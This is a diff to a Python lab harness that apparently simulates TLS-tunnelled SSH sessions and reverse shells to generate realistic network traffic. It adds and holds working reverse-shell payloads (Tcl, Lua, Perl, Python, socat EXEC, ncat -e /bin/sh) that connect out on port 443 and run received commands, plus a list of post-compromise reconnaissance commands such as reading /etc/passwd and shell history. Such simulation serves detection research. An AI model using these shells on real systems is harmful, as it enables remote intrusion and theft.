@@ -12,13 +12,21 @@ from lab.network import PASSWORD, SERVER, USER, Lab
 from lab.people import Person, program
 from lab.scenarios import SSH, TRUST
 from lab.tls import Act, key, stunnel_client
-from lab.tlsforeign import NODE, go, java, new
+from lab.tlsforeign import NODE, RELAY, go, java, new
 from lab.tlsfronts import SECRET, TOOLS
 from lab.tlsserve import INNER, INNER_WEB, bracketed
 
+CBC = "ECDHE-ECDSA-AES128-SHA:AES128-SHA"
+WAIT = (  # a listener that passes lines on, as tools for this purpose do
+    "import socket,ssl,sys,threading\nc=ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)\nc.load_cert_chain(sys.argv[2])\n"
+    "l=socket.create_server((sys.argv[1],443),family=socket.AF_INET6 if ':' in sys.argv[1] else socket.AF_INET)\n"
+    "s=c.wrap_socket(l.accept()[0],server_side=True)\n"
+    "threading.Thread(target=lambda:[s.sendall(x.encode()) for x in sys.stdin],daemon=True).start()\n"
+    "while d:=s.recv(4096): sys.stdout.write(d.decode(errors='replace')); sys.stdout.flush()\n"
+)
 PAGE = f"https://{INNER}:{INNER_WEB}"
 ORDERS = [  # what a person does in a shell that was given away; some commands say nothing
-    ("whoami", "cd /tmp", "ls -la", "export TERM=xterm", "cat /etc/os-release", "ps aux | head -20", "find / -perm -4000 2>/dev/null"),
+    ("whoami", "cd /tmp", "ls -la", "export TERM=xterm", "cat /etc/os-release", "ps aux | head -20", "ls -R /etc/ssl"),
     ("id", "pwd", "cd /var/www", "ls", "uname -a; cat /proc/version", "netstat -tn", "cat /etc/crontab", "history"),
     ("hostname", "cat /etc/passwd | grep sh$", "mkdir /tmp/.x", "cd /tmp/.x", "ls -la ..", "df", "mount | head"),
 ]  # fmt: skip
@@ -67,6 +75,7 @@ def local(lab: Lab, kind: str, address: str) -> int:
             f"OPENSSL:{there},verify=0",
         ],
         "socat13": new("socat", f"TCP4-LISTEN:{port},bind=127.0.0.1,fork,reuseaddr", f"OPENSSL:{there},verify=0"),
+        "erlang": ["env", "HOME=/root", "escript", RELAY, "local", str(port), address, "443"],
         "haproxy": ["haproxy", "-db", "-f", str(config)],
         "nginx": ["nginx", "-c", str(config)],
         "stunnel13": new("stunnel4", str(config)),
@@ -86,7 +95,7 @@ def behind(kind: str, *words: str, fails: bool = False, **variables: str) -> Act
         port = str(local(lab, kind, address))
         set_ = {name: value.replace("@", port).replace("%", str(lab.folder)) for name, value in variables.items()}
         line = [word.replace("@", port).replace("%", str(lab.folder)) for word in words]
-        program(lab, *line, expected=range(256) if fails else [0, 1], variables=set_)
+        program(lab, *line, expected=range(256) if fails else [0], variables=set_)
 
     return act
 
@@ -107,7 +116,7 @@ def direct(*words: str, fails: bool = False, **variables: str) -> Act:
 
 def chromium(page: str, proxy: bool) -> Act:
     """Chromium opens a page and what it refers to, directly or through a proxy reached by TLS."""
-    quiet = "background-networking component-update default-apps sync extensions gpu domain-reliability".split()
+    quiet = ["background-networking", "component-update", "default-apps", "sync", "extensions", "gpu"]
 
     def act(lab: Lab, address: str, seed: int) -> None:
         line = ["chromium", "--headless", "--no-sandbox", "--no-first-run", "--ignore-certificate-errors"]
@@ -151,14 +160,15 @@ def firefox(page: str, proxy: bool) -> Act:
 def way(lab: Lab, kind: str, address: str) -> list[str]:
     """Return the options by which ssh goes through TLS."""
     there = f"{bracketed(address)}:443"
+    if kind == "direct":  # the caller gives the option
+        return []
     if kind.startswith("local-"):
         return ["-p", str(local(lab, kind.partition("-")[2], address))]
     port = str(local(lab, "stunnel", address)) if kind in ("corkscrew", "connect", "ncat-proxy") else ""
+    quiet = "-quiet -verify_quiet"
     command = {
         "openssl35": " ".join(new("openssl", "s_client", "-quiet", "-verify_quiet", "-connect", there)),
-        "openssl-cbc": f"openssl s_client -tls1_2 -cipher AES256-SHA256 -quiet -verify_quiet -connect {there}",
-        "openssl-chacha": f"openssl s_client -quiet -verify_quiet -ciphersuites TLS_CHACHA20_POLY1305_SHA256 -connect {there}",
-        "openssl-pad": f"openssl s_client -quiet -verify_quiet -connect {there}",
+        "openssl-chacha": f"openssl s_client {quiet} -ciphersuites TLS_CHACHA20_POLY1305_SHA256 -connect {there}",
         "gnutls": f"gnutls-cli --insecure --logfile=/dev/null -p 443 {address}",
         "gnutls13": " ".join(new("gnutls-cli", "--insecure", "--logfile=/dev/null", "-p", "443", address)),
         "go": f"{go()} pipe {there}",
@@ -208,22 +218,31 @@ def ssh(kind: str, what: str, *options: str) -> Act:
 
 def library(kind: str, name: str, word: str = PASSWORD) -> Act:
     """Use an SSH library through a relay; with a wrong word, to see the login fail."""
+    expected = [0] if word == PASSWORD else range(1, 256)
 
     def act(lab: Lab, address: str, seed: int) -> None:
         if name == "go":
             place = [f"{bracketed(address)}:443", USER, word, "id; ls -l /etc"]
-            program(lab, go(kind.removeprefix("go")), "ssh", *place, expected=[0, 1])
+            program(lab, go(kind.removeprefix("go")), "ssh", *place, expected=expected)
             return
         port = str(local(lab, kind, address))
         if name == "dbclient":
             line = ["dbclient", "-y", "-y", "-p", port, f"{USER}@127.0.0.1", "ls -l /; id"]
-            program(lab, *line, expected=[0, 1], variables={"DROPBEAR_PASSWORD": word})
+            program(lab, *line, expected=expected, variables={"DROPBEAR_PASSWORD": word})
         elif name == "plink":
             line = ["plink", "-batch", "-ssh", "-no-trivial-auth", "-P", port, "-pw", word, f"{USER}@127.0.0.1", "ls /"]
-            program(lab, "sh", "-c", 'printf "y\\ny\\n\\n" | "$@"', "-", *[one for one in line if one != "-batch"], expected=[0, 1])
+            program(
+                lab,
+                "sh",
+                "-c",
+                'printf "y\\ny\\n\\n" | "$@"',
+                "-",
+                *[one for one in line if one != "-batch"],
+                expected=expected,
+            )
         else:
             script = str(Path(__file__).with_name("tlsssh.py"))
-            program(lab, f"{TOOLS}/python", script, name, port, USER, word, expected=[0, 1])
+            program(lab, f"{TOOLS}/python", script, name, port, USER, word, expected=expected)
 
     return act
 
@@ -232,13 +251,15 @@ def waiting(lab: Lab, kind: str, address: str) -> list[str]:
     """Return the command line by which a person waits for a shell."""
     pem, there = str(lab.folder / "both.pem"), f"{bracketed(address)}:443"
     family = "pf=ip6" if ":" in address else "pf=ip4"
+    serve = ["openssl", "s_server", "-quiet", "-cert", pem, "-key", pem]
     listen = f"OPENSSL-LISTEN:443,{family},bind={bracketed(address)},reuseaddr,cert={pem},verify=0"
     return {
         "go": [go("24"), "listen", there, pem],
         "openssl35": new("openssl", "s_server", "-quiet", "-cert", pem, "-key", pem, "-accept", there),
-        "openssl12": [*"openssl s_server -quiet -tls1_2 -cipher ECDHE-ECDSA-AES128-SHA:AES128-SHA -cert".split(), pem, "-key", pem, "-accept", there],
+        "openssl12": [*serve, "-tls1_2", "-cipher", CBC, "-accept", there],
         "socat": ["socat", "-", listen],
         "raw": ["socat", "-,raw,echo=0", listen],
+        "python": ["python3", "-c", WAIT, address, pem],
         "readline": ["socat", "READLINE", listen],
         "ncat": ["ncat", "--ssl", "--ssl-cert", pem, "--ssl-key", pem, "-n", "-v", "-l", address, "443"],
     }[kind]  # fmt: skip
@@ -260,21 +281,30 @@ def giving(lab: Lab, kind: str, address: str) -> list[str]:
         "threading.Thread(target=out,daemon=True).start()\n"
         "while d:=s.recv(1024):\n p.stdin.write(d); p.stdin.flush()\n"
     )
+    tcl = lab.folder / "shell.tcl"
+    tcl.write_text(
+        f"package require tls\nset s [tls::socket {address} 443]\nfconfigure $s -buffering line\n"
+        'while {[gets $s line] >= 0} {catch {exec sh -c "$line 2>&1"} out; puts $s $out; flush $s}\n'
+    )
+    client = " ".join(new("openssl", "s_client", "-quiet", "-connect", there))
     lua = (
         f"local t=require('socket').tcp{'6' if ':' in address else ''}(); t:connect('{address}',443); "
         "local s=require('ssl').wrap(t,{mode='client',protocol='any',verify='none'}); s:dohandshake(); "
-        "while true do local l=s:receive(); if not l then break end; local p=io.popen(l..' 2>&1'); s:send(p:read('*a')) end"
+        "while true do local l=s:receive(); if not l then break end; "
+        "local p=io.popen(l..' 2>&1'); s:send(p:read('*a')) end"
     )
     return {
         "go": [go(), "shell", there, "pipe"],
         "go-cmd": [go(), "shell", there, "cmd"],
         "go24-ps": [go("24"), "shell", there, "ps"],
+        "tcl": ["tclsh", str(tcl)],
+        "pty-dash": ["socat", f"OPENSSL:{there},verify=0", "EXEC:dash -i,pty,stderr,setsid,sigint,sane,ctty"],
         "java": [*java(), "shell", address, "443"],
         "node": ["node", NODE, "shell", address, "443"],
         "perl": ["perl", "-e", perl.format(address)],
         "python": ["python3", "-c", python],
         "lua": ["lua5.3", "-e", lua],
-        "bash-openssl35": ["sh", "-c", pipe.format("/bin/bash", " ".join(new("openssl", "s_client", "-quiet", "-connect", there)))],
+        "bash-openssl35": ["sh", "-c", pipe.format("/bin/bash", client)],
         "gnutls": ["sh", "-c", pipe.format("/bin/sh", f"gnutls-cli --insecure --logfile=/dev/null -p 443 {address}")],
         "openssl-cbc": ["sh", "-c", pipe.format("/bin/sh", f"openssl s_client -quiet -connect {there}")],
         "ncat-sh": ["ncat", "--ssl", "-e", "/bin/sh", address, "443"],
@@ -284,7 +314,7 @@ def giving(lab: Lab, kind: str, address: str) -> list[str]:
 
 
 def reverse(kind: str, gives: str, count: int = 5, upgrade: bool = False, slow: float = 4) -> Act:
-    """A person waits, and types to the shell that comes; `upgrade`: asks Python for a terminal first."""
+    """Let a person wait, and type to the shell that comes; `upgrade`: ask Python for a terminal first."""
 
     def act(lab: Lab, address: str, seed: int) -> None:
         rng = random.Random(seed)
@@ -294,7 +324,9 @@ def reverse(kind: str, gives: str, count: int = 5, upgrade: bool = False, slow: 
             person.thinks(2, 6)
             orders = ORDERS[rng.randrange(len(ORDERS))]
             first = rng.randrange(len(orders) - min(count, len(orders)) + 1)
-            for line in (["python3 -c 'import pty; pty.spawn(\"/bin/bash\")'"] if upgrade else []) + list(orders[first : first + count]):
+            for line in (["python3 -c 'import pty; pty.spawn(\"/bin/bash\")'"] if upgrade else []) + list(
+                orders[first : first + count]
+            ):
                 person.types(line)
                 person.thinks(0.4, slow)
             person.types("exit")
